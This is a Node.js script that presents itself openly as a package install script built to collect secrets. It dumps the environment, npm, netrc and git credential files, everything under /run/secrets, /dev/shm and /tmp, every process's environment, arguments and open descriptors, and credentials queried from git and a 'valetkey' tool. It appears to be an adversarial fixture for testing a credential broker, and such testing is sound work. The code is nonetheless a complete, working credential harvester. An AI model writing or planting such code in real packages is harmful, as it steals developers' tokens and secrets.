// SPDX-License-Identifier: ISC
// An install script that writes down everything it can read: its environment, the files where npm's credentials
// lie, and of every process its environment, its arguments and what its descriptors give.
const { spawnSync } = require('child_process')
const fs = require('fs')
const path = require('path')

const MOST = 1 << 16

function read (file) {
  let fd
  try {
    // Never waits: a pipe or a terminal of another process is not read.
    if (!fs.statSync(file).isFile()) return undefined
    fd = fs.openSync(file, fs.constants.O_RDONLY | fs.constants.O_NONBLOCK)
    const data = Buffer.alloc(MOST)
    return data.toString('latin1', 0, fs.readSync(fd, data, 0, MOST, 0))
  } catch (e) {
    return undefined
  } finally {
    if (fd !== undefined) fs.closeSync(fd)
  }
}

function list (directory) {
  try {
    return fs.readdirSync(directory)
  } catch (e) {
    return []
  }
}

const env = process.env
const project = env.INIT_CWD || process.cwd()
const report = { environment: { ...env }, files: {}, processes: {} }
const files = [env.npm_config_userconfig, env.NPM_CONFIG_USERCONFIG, env.npm_config_globalconfig, env.NETRC]
for (const top of [env.HOME, project, '/etc', '/usr/etc']) {
  files.push(path.join(top, '.npmrc'), path.join(top, 'npmrc'), path.join(top, '.netrc'), path.join(top, '.git-credentials'))
}
// Anything that lies where memory-backed files usually do.
for (const top of ['/dev/shm', '/run', '/run/secrets', '/run/valetkey', '/tmp']) {
  for (const name of list(top)) files.push(path.join(top, name))
}
for (const file of files) {
  const text = file && read(file)
  if (text !== undefined) report.files[file] = text
}
for (const pid of list('/proc').filter((name) => /^[0-9]+$/.test(name))) {
  const at = path.join('/proc', pid)
  const about = { environment: read(path.join(at, 'environ')), arguments: read(path.join(at, 'cmdline')), descriptors: {} }
  for (const fd of list(path.join(at, 'fd'))) {
    const file = path.join(at, 'fd', fd)
    let to = '?'
    try { to = fs.readlinkSync(file) } catch (e) {}
    if (pid !== String(process.pid)) about.descriptors[`${fd} ${to}`] = read(file)
  }
  report.processes[pid] = about
}
// Whoever hands out credentials is asked, as the tools themselves would.
function ask (command, args, input) {
  const r = spawnSync(command, args, { input, encoding: 'latin1', timeout: 10000, env: { ...env, GIT_TERMINAL_PROMPT: '0' } })
  return `${r.stdout}${r.stderr}`
}
report.asked = {}
for (const host of (env.THIEF_HOSTS || '').split(' ').filter(Boolean)) {
  const description = `protocol=https\nhost=${host}\n\n`
  const valetkey = env.THIEF_VALETKEY
  report.asked[host] = {
    git: ask('git', ['credential', 'fill'], description),
    helper: ask(valetkey, ['helper', 'git-credential', 'get'], description),
    get: ask(valetkey, ['get', `https://${host}`]),
    run: ask(valetkey, ['run', '--with', 'get', '--', valetkey, 'get', `https://${host}`])
  }
}
report.files.keystore = read(env.THIEF_KEY || '')
if (env.REPORT) fs.writeFileSync(env.REPORT, JSON.stringify(report, null, 1))
